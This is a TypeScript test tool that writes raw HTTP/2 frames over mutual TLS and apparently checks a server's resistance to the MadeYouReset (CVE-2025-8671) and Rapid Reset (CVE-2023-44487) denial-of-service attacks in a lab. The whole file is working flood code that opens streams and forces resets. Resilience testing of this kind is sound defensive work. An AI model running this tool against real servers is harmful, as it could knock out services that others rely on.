/**
 * A raw HTTP/2 frame writer over mutual TLS for hostile-client tests (reference
 * security-matrix.md #19, #24): Node's own http2 client cannot send the frames an attacker does.
 * Run as a program inside a lab namespace:
 *
 *   node h2-attack.js <json options>
 *
 * options: `{host, port, certPem, keyPem, caPem, authority, streams, mode, batch}`. Each stream is a
 * HEADERS (CONNECT) and, right behind it, a frame that makes the *server* reset the stream
 * (MadeYouReset, CVE-2025-8671): `window-zero` (WINDOW_UPDATE of 0), `window-overflow` (a
 * WINDOW_UPDATE past 2^31-1), `data-after-end` (DATA after END_STREAM); or, `rapidreset`, our
 * own RST_STREAM(CANCEL) (CVE-2023-44487). Prints one JSON line: streams sent, the
 * RST_STREAMs, responses and GOAWAY seen, and whether the connection was closed on us.
 */
import tls from 'node:tls';

export interface AttackOptions {
  host: string;
  port: number;
  certPem: string;
  keyPem: string;
  caPem: string;
  authority: string;
  streams: number;
  mode: 'window-zero' | 'window-overflow' | 'data-after-end' | 'rapidreset';
  /** Streams written per socket write (one TCP segment or a few). */
  batch?: number;
}

export interface AttackResult {
  sent: number;
  resets: number;
  responses: number;
  goaway?: number;
  closed: boolean;
  error?: string;
}

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const h = Buffer.alloc(9);
  h.writeUIntBE(payload.length, 0, 3);
  h[3] = type;
  h[4] = flags;
  h.writeUInt32BE(stream & 0x7fffffff, 5);
  return Buffer.concat([h, payload]);
}

/** HPACK literal header field without indexing, new name, no Huffman (RFC 7541 §6.2.2). */
function literal(name: string, value: string): Buffer {
  const n = Buffer.from(name);
  const v = Buffer.from(value);
  if (n.length > 126 || v.length > 126) throw new Error('header too long for this encoder');
  return Buffer.concat([Buffer.from([0x00, n.length]), n, Buffer.from([v.length]), v]);
}

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const HEADERS = 0x1;
const RST_STREAM = 0x3;
const SETTINGS = 0x4;
const GOAWAY = 0x7;
const WINDOW_UPDATE = 0x8;
const DATA = 0x0;
const END_HEADERS = 0x4;
const END_STREAM = 0x1;

/** The frame behind each HEADERS: one the server must answer with RST_STREAM, or our reset. */
function trailer(mode: AttackOptions['mode'], id: number): Buffer {
  const u32 = (n: number) => {
    const b = Buffer.alloc(4);
    b.writeUInt32BE(n);
    return b;
  };
  switch (mode) {
    case 'window-zero':
      return frame(WINDOW_UPDATE, 0, id, u32(0));
    case 'window-overflow':
      // The stream window (4 MiB) plus this passes 2^31-1: FLOW_CONTROL_ERROR on the stream.
      return frame(WINDOW_UPDATE, 0, id, u32(0x7fffffff));
    case 'data-after-end':
      return frame(DATA, 0, id, Buffer.from('x'));
    case 'rapidreset':
      return frame(RST_STREAM, 0, id, u32(8)); // CANCEL
  }
}

export function attack(o: AttackOptions): Promise<AttackResult> {
  return new Promise((resolve) => {
    const res: AttackResult = { sent: 0, resets: 0, responses: 0, closed: false };
    const sock = tls.connect({
      host: o.host,
      port: o.port,
      cert: o.certPem,
      key: o.keyPem,
      ca: o.caPem,
      ALPNProtocols: ['h2'],
      servername: '',
      checkServerIdentity: () => undefined,
    });
    let buf = Buffer.alloc(0);
    const finish = () => {
      clearTimeout(timer);
      sock.destroy();
      resolve(res);
    };
    // After the last stream, give the server time to answer, then report.
    let timer = setTimeout(finish, 30_000);
    sock.on('error', (e) => {
      res.error = e.message;
      finish();
    });
    sock.on('close', () => {
      res.closed = true;
      finish();
    });
    sock.on('data', (d: Buffer) => {
      buf = Buffer.concat([buf, d]);
      while (buf.length >= 9) {
        const len = buf.readUIntBE(0, 3);
        if (buf.length < 9 + len) break;
        const type = buf[3]!;
        const flags = buf[4]!;
        if (type === RST_STREAM) res.resets++;
        else if (type === HEADERS) res.responses++;
        else if (type === GOAWAY) res.goaway ??= buf.readUInt32BE(13);
        else if (type === SETTINGS && !(flags & 1))
          sock.write(frame(SETTINGS, 1, 0, Buffer.alloc(0)));
        buf = buf.subarray(9 + len);
      }
    });
    sock.once('secureConnect', () => {
      sock.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, Buffer.alloc(0))]));
      const block = Buffer.concat([
        literal(':method', 'CONNECT'),
        literal(':authority', o.authority),
      ]);
      const batch = o.batch ?? 20;
      let id = 1;
      const burst = () => {
        if (sock.destroyed) return;
        const out: Buffer[] = [];
        for (let i = 0; i < batch && res.sent < o.streams; i++, id += 2, res.sent++) {
          out.push(
            frame(HEADERS, END_HEADERS | (o.mode === 'data-after-end' ? END_STREAM : 0), id, block),
          );
          out.push(trailer(o.mode, id));
        }
        sock.write(Buffer.concat(out));
        if (res.sent < o.streams) setImmediate(burst);
        else {
          clearTimeout(timer);
          timer = setTimeout(finish, 1_500);
        }
      };
      burst();
    });
  });
}

if (process.argv[1]?.endsWith('h2-attack.js') && process.argv[2]) {
  const o = JSON.parse(process.argv[2]) as AttackOptions;
  void attack(o).then((r) => console.log(JSON.stringify(r)));
}
